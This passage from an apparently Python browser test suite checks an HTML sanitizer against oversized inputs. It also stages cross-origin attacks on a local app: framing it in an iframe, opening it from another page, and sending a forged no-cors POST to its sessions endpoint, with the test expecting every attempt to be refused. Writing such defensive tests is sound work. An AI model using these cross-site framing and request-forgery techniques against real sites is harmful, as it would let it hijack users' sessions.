    html = "<style>.a { color: red }</style><table class=a border=1><tr style='text-align: right'><td colspan=2 ping=x>1<custom-x>2</custom-x></td></tr></table>"
    found = page.value("import('/ui/frame.js').then(({ cleaned }) => cleaned(%s))" % json.dumps(html))
    assert found == ('<style>.a { color: red }</style><table class="a" border="1"><tbody><tr style="text-align: right"><td colspan="2">12</td>'
                     '</tr></tbody></table>')
    before = time.monotonic()
    assert page.value("import('/ui/frame.js').then(({ cleaned }) => cleaned('<div>'.repeat(10000)).length)") == 110000
    assert page.value("import('/ui/frame.js').then(({ frameOf }) => frameOf('<div>'.repeat(100000), 'x'))") is None
    assert time.monotonic() - before < 30


def test_other_pages_reach_it_not(browser, server, listener):
    """No frame, no window of another page has it, and what that asks the server for is refused."""
    listener.pages["/frame"] = "<iframe src='%s'></iframe>" % url_of(server)
    listener.pages["/open"] = "<script>onclick = () => { w = open('%s') }</script>" % url_of(server)
    page = browser.page()
    page.open("http://%s/frame" % listener.address)
    gateway.await_that(lambda: any("frame" in each or "ancestor" in each for each in page.complaints))

    def frames():
        return [child["frame"]["url"] for child in page.order("Page.getFrameTree")["frameTree"].get("childFrames", [])]
    gateway.await_that(lambda: frames() == ["chrome-error://chromewebdata/"])
    page.open("http://%s/open" % listener.address)
    page.until("location.pathname === '/open' && document.readyState === 'complete'")
    page.click(50, 50)
    page.until("typeof w === 'object' && w.closed")  # severed from it
    code = page.value("fetch('%s', { method: 'POST', mode: 'no-cors', body: '{}' }).then(answer => answer.type)" % url_of(server, "/v1/sessions"))
    assert code == "opaque"
    gateway.await_that(lambda: any(event["event"] == "request" and event["status"] == 403 for event in server.events))
    page.close()
